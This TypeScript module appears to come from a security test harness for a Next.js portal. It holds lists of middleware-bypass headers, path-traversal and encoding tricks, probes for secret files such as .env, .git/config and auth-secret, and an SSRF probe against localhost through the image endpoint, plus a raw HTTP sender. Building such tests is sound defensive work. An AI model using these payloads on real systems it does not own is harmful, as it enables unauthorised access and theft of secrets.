import { request } from "node:http";
import type { Knocker } from "./roles";

/** Headers by which a framework was, or might be, told that its checks are done. */
const trickHeaders: Record<string, string>[] = [
  { "x-middleware-subrequest": "proxy:proxy:proxy:proxy:proxy" },
  { "x-middleware-subrequest": "middleware:middleware:middleware:middleware:middleware" },
  { rsc: "1", "next-router-prefetch": "1" },
  { rsc: "1", "next-router-segment-prefetch": "/_tree" },
  { "x-nextjs-data": "1" },
  { "x-matched-path": "/p/[project]" },
  { "x-original-url": "/sign-in", "x-rewrite-url": "/sign-in" },
];

/** Other ways to write a page's address; `own` is one that the sender may open. */
function trickPaths(path: string, own: string): string[] {
  const encoded = path.replace(/[a-z]/g, (letter) => `%${letter.charCodeAt(0).toString(16)}`);
  const slug = path.split("/").at(-1) ?? "";
  return [
    path,
    `${path}?_rsc=1`,
    `${path}.rsc`,
    `${path}.segments/_tree.segment.rsc`,
    `${path}/`,
    `/${path}`,
    path.toUpperCase(),
    encoded,
    path.replaceAll("/", "%2f"),
    `${own}/..${path.slice(path.lastIndexOf("/"))}`,
    `${own}%2f..%2f${slug}`,
    `/_next/data/x${path}.json`,
    `/sign-in/..${path}`,
    `/_next/static/..%2f..${path}`,
    `${own}?nxtPproject=${slug}`,
    `${own}?project=${slug}&nextInternalLocale=en`,
    `${path};x=1`,
    `${path}%00`,
  ];
}

/** Ways round a page's door: each other writing as a page and as its data, and each header. */
export function detours(path: string, own: string): [string, Record<string, string>][] {
  const paths = trickPaths(path, own);
  return [
    ...paths.map((each): [string, Record<string, string>] => [each, {}]),
    ...paths.map((each): [string, Record<string, string>] => [each, { rsc: "1" }]),
    ...trickHeaders.map((headers): [string, Record<string, string>] => [path, headers]),
  ];
}

/** What lies on the portal's disk beside what it serves, and doors that others leave open. */
export const insides: readonly string[] = [
  ...["/.git/config", "/.git/HEAD", "/.gitignore", "/.env", "/.npmrc", "/.next/BUILD_ID"],
  ...["/package.json", "/package-lock.json", "/next.config.mjs", "/tsconfig.json"],
  ...["/server/index.ts", "/dist/server/index.js", "/prisma/schema.prisma", "/node_modules/next"],
  ...["/portico.db", "/secrets.env", "/auth-secret", "/uploads", "/metrics", "/debug", "/trace"],
  ...["/_next/server/app-paths-manifest.json", "/_next/build-manifest.json", "/_next/trace"],
  ...["/../package.json", "/_next/../package.json", "/_next/static/../../package.json"],
  "/_next/static/..%2f..%2fpackage.json",
  "/_next/static/%2e%2e/%2e%2e/%2e%2e/package.json",
  "/_next/static/chunks/../../../.git/config",
  "//package.json",
  "/static/package.json",
  "/_next/image?url=%2Fpackage.json&w=64&q=75",
  "/_next/image?url=http%3A%2F%2F127.0.0.1%3A22%2F&w=64&q=75",
];

export interface RawAnswer {
  status: number;
  body: string;
}

/** Sends a path exactly as it is written; fetch would tidy it up. */
export function ask(
  origin: string,
  path: string,
  who: Knocker,
  headers: Record<string, string> = {},
): Promise<RawAnswer> {
  const { hostname, port } = new URL(origin);
  const cookie: Record<string, string> = who.cookie === "" ? {} : { cookie: who.cookie };
  return new Promise((resolve, reject) => {
    const asked = request(
      { hostname, port, path, headers: { ...headers, ...cookie } },
      (answer) => {
        const chunks: Buffer[] = [];
        answer.on("data", (chunk: Buffer) => chunks.push(chunk));
        answer.on("error", reject);
        answer.on("end", () => {
          resolve({ status: answer.statusCode ?? 0, body: Buffer.concat(chunks).toString() });
        });
      },
    );
    asked.on("error", reject);
    asked.end();
  });
}
